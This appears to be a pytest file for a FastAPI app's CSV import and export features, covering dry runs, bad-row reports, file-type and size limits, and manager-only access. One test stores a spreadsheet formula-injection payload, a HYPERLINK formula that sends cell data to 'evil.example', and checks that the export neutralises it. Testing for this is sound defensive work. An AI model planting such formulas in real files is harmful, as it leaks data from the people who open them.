"""The Import page and POST /api/v1/imports through the real app: reports, bad rows, caps, types."""

from __future__ import annotations

from pathlib import Path

from fastapi import FastAPI
from fastapi.testclient import TestClient

from callworthy.storage.location import sqlite_url

from .helpers_web import add_rep, bearer, csrf, log_in, new_token, set_up

FIXTURES = Path(__file__).parents[1] / "fixtures" / "crm"
HUBSPOT = (FIXTURES / "hubspot_calls.csv").read_bytes()
BAD = (
    b"id,kind,at,prospect,phone\n"
    b"vm-1,voicemail,2024-03-04T09:00:00Z,Ana,(617) 253-1000\n"
    b"vm-2,voicemail,not a time,Ben,(303) 499-7111\n"
    b"vm-3,meeting,2024-03-04T09:00:00Z,Cy,(303) 499-7112\n"
)


def upload(name: str, data: bytes, kind: str = "text/csv") -> dict[str, tuple[str, bytes, str]]:
    return {"file": (name, data, kind)}


def test_a_dry_run_then_the_import_show_the_report(client: TestClient) -> None:
    set_up(client)
    token = csrf(client, "/import")
    form = {"format": "hubspot", "dry_run": "true", "csrf_token": token}
    page = client.post("/import", data=form, files=upload("calls.csv", HUBSPOT))
    assert page.status_code == 200, page.text
    assert "dry run, nothing added" in page.text and "7 rows" in page.text
    assert "Would add 3 voicemails, 1 callback, 3 new prospects" in page.text
    assert "Skipped 3 rows" in page.text and "is not a voicemail left" in page.text
    assert "Jane" not in client.get("/prospects").text
    form.pop("dry_run")
    page = client.post("/import", data=form, files=upload("calls.csv", HUBSPOT))
    assert "Added 3 voicemails" in page.text
    assert "Jane Doe" in client.get("/prospects").text


def test_every_bad_row_is_listed_with_its_line_and_nothing_is_added(client: TestClient) -> None:
    set_up(client)
    form = {"format": "generic", "csrf_token": csrf(client, "/import")}
    page = client.post("/import", data=form, files=upload("bad.csv", BAD))
    assert page.status_code == 422
    assert "<td>3</td>" in page.text and "<td>4</td>" in page.text
    assert "Nothing was written." in page.text
    assert "Ana" not in client.get("/prospects").text
    auth = bearer(new_token(client))
    response = client.post("/api/v1/imports", files=upload("bad.csv", BAD), headers=auth)
    assert response.status_code == 422
    assert [p["line"] for p in response.json()["error"]["problems"]] == [3, 4]


def test_the_api_imports_and_refuses_what_is_not_csv(client: TestClient) -> None:
    set_up(client)
    auth = bearer(new_token(client))
    url = "/api/v1/imports?format=hubspot&dry_run=true"
    report = client.post(url, files=upload("calls.csv", HUBSPOT), headers=auth).json()
    assert (report["rows"], report["voicemails_added"], report["dry_run"]) == (7, 3, True)
    assert report["path"] == "calls.csv" and [s["line"] for s in report["skipped"]] == [3, 5, 8]
    for name, kind in (("calls.xlsx", "text/csv"), ("calls.csv", "image/png")):
        response = client.post(url, files=upload(name, HUBSPOT, kind), headers=auth)
        assert response.status_code == 415 and "Only CSV" in response.json()["error"]["message"]
    page = client.post(
        "/import",
        data={"format": "hubspot", "csrf_token": csrf(client, "/import")},
        files=upload("calls.pdf", HUBSPOT, "application/pdf"),
    )
    assert page.status_code == 415 and "Only CSV" in page.text
    unknown = client.post(
        "/api/v1/imports?format=zoho", files=upload("c.csv", HUBSPOT), headers=auth
    )
    assert unknown.status_code == 422
    assert client.post(url, files=upload("calls.csv", HUBSPOT)).status_code == 401


def test_imports_are_for_managers(client: TestClient) -> None:
    set_up(client)
    add_rep(client, "Rob Rep", "rob@example.com")
    client.cookies.clear()
    assert log_in(client, "rob@example.com") == 303
    auth = bearer(new_token(client))
    response = client.post("/api/v1/imports", files=upload("c.csv", HUBSPOT), headers=auth)
    assert response.status_code == 403
    assert client.get("/import").status_code == 403


def test_uploads_have_their_own_larger_cap(app_on: object, tmp_path: Path) -> None:
    app: FastAPI = app_on(  # type: ignore[operator]
        sqlite_url(tmp_path / "cap.sqlite3"), max_body_bytes=1024, max_import_bytes=4096
    )
    with TestClient(app) as client:
        set_up(client)
        auth = bearer(new_token(client))
        big = HUBSPOT[:2000]  # over the general cap, under the import cap: accepted by size
        response = client.post("/api/v1/imports", files=upload("c.csv", big), headers=auth)
        assert response.status_code != 413
        huge = b"a,b\n" + b"1,2\n" * 2000
        response = client.post("/api/v1/imports", files=upload("c.csv", huge), headers=auth)
        assert response.status_code == 413 and "4,096 bytes" in response.json()["error"]["message"]
        response = client.post("/api/v1/prospects", json={"name": "x" * 2000}, headers=auth)
        assert response.status_code == 413  # the general cap still holds elsewhere


def test_a_formula_a_rep_types_downloads_as_text_for_the_manager(db_client: TestClient) -> None:
    import csv
    import io

    client = db_client
    set_up(client)
    manager_token = new_token(client)
    add_rep(client, "Ray Rep", "ray@example.com")
    client.post("/logout", data={"csrf_token": csrf(client, "/check")})
    assert log_in(client, "ray@example.com") == 303
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Report")'
    form = {"name": formula, "company": "@SUM(1)", "csrf_token": csrf(client, "/prospects/new")}
    added = client.post("/prospects", data=form, follow_redirects=False)
    assert added.status_code == 303, added.text
    script = "+1+1 Jane, three ways to fill your chairs; call 704-333-1112."
    data = {"strategy": "value_tip", "script": script, "csrf_token": csrf(client, "/check")}
    client.post(f"{added.headers['location']}/voicemails", data=data)
    assert client.get("/export.csv").status_code == 403  # a rep: managers export
    rep_token = new_token(client, "ray")
    assert client.get("/api/v1/export.csv", headers=bearer(rep_token)).status_code == 403
    download = client.get("/api/v1/export.csv", headers=bearer(manager_token))
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert "attachment" in download.headers["content-disposition"]
    (row,) = csv.DictReader(io.StringIO(download.text))
    assert row["prospect"] == "'" + formula and row["company"] == "'@SUM(1)"
    assert row["script"] == "'" + script and row["rep"] == "Ray Rep"


def test_the_manager_downloads_the_export_from_the_import_page(client: TestClient) -> None:
    set_up(client)
    assert 'href="/export.csv"' in client.get("/import").text
    download = client.get("/export.csv")
    assert download.status_code == 200 and download.text.startswith('"kind","id","at"')
